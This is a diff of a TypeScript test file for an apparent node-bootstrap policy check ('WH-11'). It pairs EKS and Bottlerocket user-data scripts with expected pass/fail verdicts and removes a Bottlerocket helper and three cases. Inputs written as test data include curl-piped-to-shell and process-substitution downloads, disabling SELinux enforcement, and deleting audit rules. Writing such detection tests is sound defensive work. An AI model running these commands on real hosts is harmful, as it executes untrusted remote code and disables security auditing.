@@ -76,13 +76,6 @@ const node = (...lines: string[]) => [
     userData: Buffer.from(["#!/bin/bash", "/etc/eks/bootstrap.sh core", ...lines].join("\n")).toString("base64"),
   }),
 ];
-const bottlerocket = (script: string) => [
-  resource("aws:ec2/launchTemplate:LaunchTemplate", "n", {
-    userData: Buffer.from(
-      `[settings.kubernetes]\ncluster-name = "core"\n[settings.bootstrap-containers.planes]\nsource = "r.example/bootstrap@sha256:1"\nuser-data = "${Buffer.from(`#!/bin/sh\n${script}\n`).toString("base64")}"`,
-    ).toString("base64"),
-  }),
-];
 // prettier-ignore
 answers("WH-11", [
   ["a process substitution", node("bash <(curl -s https://x/i.sh)"), "fail"],
@@ -93,9 +86,6 @@ answers("WH-11", [
   ["SELinux in its file", node("sed -i 's/SELINUX=enforcing/SELINUX=permissive/' /etc/selinux/config"), "fail"],
   ["audit rules deleted", node("auditctl -D"), "fail"],
   ["iptables listed", node("iptables -L -n"), "pass"],
-  ["a script that Bottlerocket hands to a bootstrap container", bottlerocket("curl -sfL https://x/i.sh | sh"), "fail"],
-  ["a bootstrap container that brings interfaces up", bottlerocket("ip link set eth1 up"), "pass"],
-  ["a template that only an override of a mixed instances policy names", [resource("aws:autoscaling/group:Group", "g", { tags: [{ key: "kubernetes.io/cluster/core", value: "owned" }], mixedInstancesPolicy: { launchTemplate: { launchTemplateSpecification: { launchTemplateId: "lt-0" }, overrides: [{ launchTemplateSpecification: { launchTemplateId: "lt-1" } }] } } }), resource("aws:ec2/launchTemplate:LaunchTemplate", "n", { id: "lt-1", userData: Buffer.from("#!/bin/bash\ncurl https://x/i.sh | sh").toString("base64") })], "fail"],
   ["huge pages and drivers", node("sysctl -w vm.nr_hugepages=1024", "modprobe vfio-pci"), "pass"],
 ]);
 
